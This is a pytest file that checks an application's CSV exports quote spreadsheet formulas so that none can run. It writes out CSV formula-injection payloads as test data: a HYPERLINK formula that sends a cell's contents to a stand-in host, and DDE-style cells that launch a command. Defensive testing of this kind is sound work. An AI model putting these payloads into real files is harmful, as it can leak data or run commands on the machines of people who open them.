"""Every CSV export writes cells a spreadsheet shows as text: no formula from a model, a file or a name runs."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest

from services import config
from services.csv_export import FORMULA_STARTS, cell, rows_csv
from services.evaluate import promptfile, results
from services.evaluate.runner import EvalSpec, run_eval
from services.reasoning import routing
from services.evaluate.problem_set import parse_problems, run_suite
from services.types import Routing
from tests.conftest import ROOT
from tests.standins.openai_sse import OpenAIStandIn, Reply

# what a spreadsheet would run, one of each starting character OWASP lists
FORMULAS = ['=HYPERLINK("http://example.invalid/?q="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def assert_inert(text: str) -> None:
    """No cell would run: each one that starts like a formula is a plain number."""
    live = [c for c in cells(text) if c.startswith(FORMULA_STARTS) and not re.fullmatch(r"[+-]?\d+(\.\d+)?", c)]
    assert live == [], live


def test_cells_become_text_and_numbers_stay_numbers():
    for formula in FORMULAS:
        assert cell(formula) == "'" + formula
    for kept in (-3, 2.5, 0, True, None, "-3", "+4", "-2.5e-3", "plain", "a=b", ""):
        assert cell(kept) == kept
    text = rows_csv(["=header", "n"], [["=1+1", -7], ["ok", 1.5]])
    assert cells(text) == ["'=header", "n", "'=1+1", "-7", "ok", "1.5"]


def test_the_evaluation_csv_carries_no_formula():
    """A model answer, an evaluator's name and details, and a test row's values, all formulas."""
    names = [f"{f.strip()[:12]}{n}" for n, f in enumerate(FORMULAS)]
    evaluators = "\n".join(f"  - {{name: {json.dumps(name)}, string: {{contains: {json.dumps(f)}}}}}"
                           for name, f in zip(names, FORMULAS, strict=True))
    text = (f"messages:\n  - {{role: user, content: 'Say {{{{x}}}}'}}\ntestData:\n  - {{x: {json.dumps(FORMULAS[0])}}}\n"
            f"evaluators:\n{evaluators}\n")
    with OpenAIStandIn(models=("m",), answers=lambda body: Reply.text(FORMULAS[1])) as srv:
        with config.session({"OPENAI_BASE_URL": srv.url}):
            run = run_eval(EvalSpec.build(promptfile.loads(text), ["openai:m"]))
    out = results.to_csv(results.record(run))
    assert FORMULAS[1] in out  # the answer is there, as text
    assert_inert(out)
    rows = list(csv.DictReader(io.StringIO(out)))
    assert rows[0]["modelResponse"] == "'" + FORMULAS[1] and float(rows[0]["total_s"]) >= 0


def test_the_problem_set_csv_carries_no_formula():
    line = {"id": "p1", "category": FORMULAS[2], "difficulty": "easy", "question": "What is 2 + 3?",
            "answer": FORMULAS[0], "answer_type": "text"}
    with OpenAIStandIn(models=("m",), answers=lambda body: Reply.text("Answer: " + FORMULAS[3])) as srv:
        with config.session({"OPENAI_BASE_URL": srv.url}):
            run = run_suite(parse_problems(json.dumps(line)), ["openai:m"], step_by_step=False)
    out = run.to_csv()
    assert_inert(out)
    assert "'" + FORMULAS[2] in cells(out)


def test_the_routing_csvs_carry_no_formula():
    events = [Routing(token, layer, (0, 1), (0.6, 0.4), position, (), 4)
              for position, token in enumerate(["=", "+", "-1+1", "@", "\tx", "=SUM(A1)"]) for layer in (0, 1)]
    out = routing.to_csv(events)
    assert_inert(out)
    assert cells(out)[-6:] == ["5", "'=SUM(A1)", "1", "0;1", "0.6;0.4", ""]
    assert_inert(routing.stats_csv(events))


def test_every_csv_goes_through_the_one_helper():
    """No other module writes CSV: a new export has to use services/csv_export.py."""
    writers = re.compile(r"csv\.(writer|DictWriter)\(|\.to_csv\(\s*(index|path|sep)")
    found = [str(p.relative_to(ROOT)) for d in ("services", "ui", "app_pages") for p in Path(ROOT, d).rglob("*.py")
             if writers.search(p.read_text(encoding="utf-8")) and p.name != "csv_export.py"]
    assert found == []


@pytest.mark.parametrize("value", ["=1", "+1+1", "-", "@", "\t", "\r", "=" * 10_000])
def test_any_formula_start_is_quoted(value):
    assert cell(value).startswith("'")
